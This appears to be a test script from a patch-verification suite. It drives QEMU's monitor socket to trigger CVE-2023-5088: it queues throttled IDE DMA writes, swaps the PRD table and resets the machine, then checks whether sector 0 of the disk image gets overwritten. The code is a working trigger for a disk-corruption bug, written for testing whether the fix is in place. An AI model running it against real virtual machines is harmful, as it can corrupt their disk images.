#!/usr/bin/env python3
"""QEMU's human monitor (HMP) through its Unix socket, and the probe of the
QEMU case (tests/realworld/qemu.sh).

  probe.py SOCKET cmd COMMAND...        run monitor commands, print their output
  probe.py SOCKET probe IMAGE DRIVE     the CVE-2023-5088 probe (below)

The probe plays a guest's part through the monitor's `o` (I/O port write)
command, on the IDE drive DRIVE (secondary channel, master; its -drive has
id=DRIVE, throttling.bps-write and file IMAGE) of a `-M pc` machine whose
guest is qemu/boot.S (which laid out the PRD tables at 0x8000 and 0x9000):

1. sector 0 of IMAGE gets a known pattern (written from the host);
2. bus mastering of the PIIX IDE function is turned on (PCI config space);
3. a 64 KiB WRITE DMA (PRD table A) runs at once and fills the drive's
   write throttle;
4. a second one is held by the throttle; while it waits, the controller's
   PRD table pointer is moved to table B (one 512-byte entry) and the
   machine is reset with `system_reset`, which calls ide_bus_reset();
5. the drive's writes and sector 0 of IMAGE are watched for a few seconds.

ide_bus_reset() waits for the pending transfer, whose callback
(ide_dma_cb) then continues the command.  Without the fix of CVE-2023-5088
the drive's registers are already reset then (sector 0, 1 sector to go):
the callback starts one more transfer, from table B, and writes 512 bytes
of guest memory over sector 0.  With the fix the transfer is finished
before the reset and nothing more is written.

Prints one line, "sector 0 overwritten" (with the guest's boot sector, when
the memory at 0x7c00 still held it) or "sector 0 intact", and details on
stderr.  Exit status 2 when the probe could not be run as intended.
"""
import re
import socket
import sys
import time

WAIT = 8          # seconds after the reset that a write over sector 0 may take
PATTERN = b"qpatch-probe: sector 0, as written before the probe\n"
ESC = re.compile(r"\x1b\[[0-9;]*[A-Za-z]|\x1b[A-Za-z]")


class Monitor:
    def __init__(self, path, timeout=60):
        self.s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.s.settimeout(timeout)
        self.s.connect(path)
        self.buf = b""
        self._prompt()

    def _prompt(self):
        while not self.buf.endswith(b"(qemu) "):
            d = self.s.recv(65536)
            if not d:
                raise SystemExit("probe.py: the monitor closed the connection")
            self.buf += d
        out, self.buf = self.buf[:-len(b"(qemu) ")], b""
        return ESC.sub("", out.decode(errors="replace")).replace("\r", "")

    def cmd(self, line):
        self.s.sendall(line.encode() + b"\n")
        out = self._prompt()
        # the monitor echoes the command line first
        return out.split("\n", 1)[1] if "\n" in out else ""


def info_pci_bar4(mon):
    """I/O base of the bus-master registers (BAR4) of the IDE function."""
    out = mon.cmd("info pci")
    for block in re.split(r"\n(?=\s*Bus\s)", out):
        if "IDE controller" in block:
            m = re.search(r"BAR4: I/O at (0x[0-9a-f]+)", block)
            if m:
                return int(m.group(1), 16)
    raise SystemExit("probe.py: no IDE controller with a BAR4 in 'info pci':\n" + out)


def writes(mon, drive):
    out = mon.cmd("info blockstats")
    m = re.search(r"^%s:.*?\bwr_operations=(\d+)" % re.escape(drive), out, re.M | re.S)
    if not m:
        raise SystemExit("probe.py: no drive '%s' in 'info blockstats':\n%s" % (drive, out))
    return int(m.group(1))


def sector0(image):
    with open(image, "rb") as f:
        return f.read(512)


def dma_write(mon, bm, lba, table):
    """WRITE DMA of 128 sectors at LBA, secondary master, PRD table TABLE."""
    for c in ("o /b 0x%x 0x00" % bm,          # stop the engine: memory to disk
              "o /b 0x%x 0x06" % (bm + 2),    # clear interrupt and error
              "o /w 0x%x 0x%x" % (bm + 4, table),
              "o /b 0x176 0xe0",              # drive 0, LBA addressing
              "o /b 0x172 128",
              "o /b 0x173 0x%x" % (lba & 0xff),
              "o /b 0x174 0x%x" % ((lba >> 8) & 0xff),
              "o /b 0x175 0x%x" % ((lba >> 16) & 0xff),
              "o /b 0x177 0xca",              # WRITE DMA
              "o /b 0x%x 0x01" % bm):         # start
        out = mon.cmd(c)
        if out.strip():
            raise SystemExit("probe.py: '%s': %s" % (c, out.strip()))


def probe(sock, image, drive):
    block = (PATTERN * (512 // len(PATTERN) + 1))[:512]
    with open(image, "r+b") as f:
        f.write(block)
        f.flush()
    mon = Monitor(sock)
    bm = info_pci_bar4(mon) + 8           # secondary channel
    mon.cmd("o /w 0xcf8 0x80000904")      # 00:01.1 command register
    cmd = int(mon.cmd("i /h 0xcfc").split("0x")[-1], 16)
    mon.cmd("o /h 0xcfc 0x%x" % (cmd | 0x5))   # I/O space, bus master
    w0 = writes(mon, drive)
    dma_write(mon, bm, 64, 0x8000)
    t = time.time()
    while writes(mon, drive) < w0 + 1:
        if time.time() - t > 10:
            raise SystemExit("probe.py: the first DMA write did not complete")
        time.sleep(0.05)
    dma_write(mon, bm, 256, 0x8000)
    mon.cmd("o /w 0x%x 0x9000" % (bm + 4))
    pending = writes(mon, drive) == w0 + 1
    t_reset = time.time()
    mon.cmd("system_reset")
    # the reset waits for the held write; then a write over sector 0 may
    # follow, held by the throttle too
    while time.time() - t_reset < WAIT and sector0(image) == block:
        time.sleep(0.1)
    n = writes(mon, drive) - w0
    s0 = sector0(image)
    what = "intact" if s0 == block else "overwritten"
    if b"qpatch-guest" in s0:
        what += " (with the guest's boot sector)"
    print("probe.py: second write pending at the reset: %s; %d write commands done; "
          "%.1f s after the reset sector 0 holds %r" % (
              "yes" if pending else "NO", n, time.time() - t_reset, s0[:40]), file=sys.stderr)
    if not pending:
        print("sector 0 %s, but the second write was not pending at the reset" % what)
        return 2
    print("sector 0 " + what)
    return 0


def main():
    if len(sys.argv) >= 3 and sys.argv[2] == "cmd":
        mon = Monitor(sys.argv[1])
        for c in sys.argv[3:]:
            sys.stdout.write(mon.cmd(c))
        return 0
    if len(sys.argv) == 5 and sys.argv[2] == "probe":
        return probe(sys.argv[1], sys.argv[3], sys.argv[4])
    print(__doc__.split("\n\n")[1], file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main())
